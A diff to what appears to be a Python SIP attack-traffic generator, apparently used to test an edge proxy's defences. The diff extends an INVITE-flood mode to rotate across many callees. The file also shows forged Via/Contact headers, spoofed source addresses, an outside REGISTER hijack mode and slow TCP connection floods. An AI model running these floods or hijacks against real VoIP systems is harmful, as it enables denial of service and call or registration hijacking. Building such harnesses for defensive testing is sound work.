@@ -8,10 +8,10 @@ toll host, the inside recorder and the bindings, not by what this prints.
                              external, every method, UDP/TCP/TLS, sip:/sips:, IP and domain
   forged EDGE ADDRS...       class 4: 2xx/18x whose top Via names sipring over any second Via
   hijack EDGE ADDRS...       class 2: REGISTER / un-REGISTER of the PBX's AOR from the outside
-  store EDGE N ADDRS...      class 5: N OPTIONS to silent@DOMAIN per address, each with a new private Contact
-  invite EDGE SECS RATE ADDRS...
-                             class 5: INVITEs with SDP to silent@DOMAIN, RATE per second from
-                             each address, for SECS seconds
+  store EDGE N ADDRS...      class 5: N OPTIONS to silent0@DOMAIN per address, each with a new private Contact
+  invite EDGE SECS RATE CALLEES ADDRS...
+                             class 5: INVITEs with SDP to silent0..silent<CALLEES-1>@DOMAIN,
+                             RATE per second from each address, for SECS seconds
   slow EDGE PORT CONNS SECS ADDRS...
                              class 5: CONNS TCP connections per address, one byte a second
 """
@@ -186,7 +186,7 @@ def store(edge, per, addrs):
     for k in range(per):
         for i, src in enumerate(addrs):
             n += 1
-            m = req("OPTIONS", f"sip:silent@{DOMAIN}", src, 5060, "UDP", f"o{n}").decode()
+            m = req("OPTIONS", f"sip:silent0@{DOMAIN}", src, 5060, "UDP", f"o{n}").decode()
             m = m.replace(f"Contact: <sip:mallory@{src}:5060>",
                           f"Contact: <sip:x{n}@192.168.{k % 250}.{i % 250}:5060>")
             m = m.replace(f"Via: SIP/2.0/UDP {src}:5060", f"Via: SIP/2.0/UDP 192.168.{k % 250}.{i % 250}:5060")
@@ -203,15 +203,16 @@ SDP = ("v=0\r\no=- 1 1 IN IP4 {ip}\r\ns=-\r\nc=IN IP4 {ip}\r\nt=0 0\r\n"
        "m=audio 4000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n")
 
 
-def invite(edge, secs, rate, addrs):
+def invite(edge, secs, rate, callees, addrs):
     s = Sender(edge)
     n, t0 = 0, time.time()
     while time.time() - t0 < secs:
         for src in addrs:
             n += 1
-            m = req("INVITE", f"sip:silent@{DOMAIN}", src, 5060, "UDP", f"i{n}",
+            who = f"silent{n % callees}"
+            m = req("INVITE", f"sip:{who}@{DOMAIN}", src, 5060, "UDP", f"i{n}",
                     body=SDP.format(ip=src)).decode()
-            m = m.replace(f"To: <sip:+19005550100@{TOLL}>", f"To: <sip:silent@{DOMAIN}>")
+            m = m.replace(f"To: <sip:+19005550100@{TOLL}>", f"To: <sip:{who}@{DOMAIN}>")
             s.send(src, "UDP", m.encode())
         s.drain()
         time.sleep(1.0 / rate)
@@ -272,7 +273,7 @@ def main():
     elif mode == "store":
         store(edge, int(rest[0]), rest[1:])
     elif mode == "invite":
-        invite(edge, float(rest[0]), float(rest[1]), rest[2:])
+        invite(edge, float(rest[0]), float(rest[1]), int(rest[2]), rest[3:])
     elif mode == "slow":
         slow(edge, int(rest[0]), int(rest[1]), float(rest[2]), rest[3:])
     else:
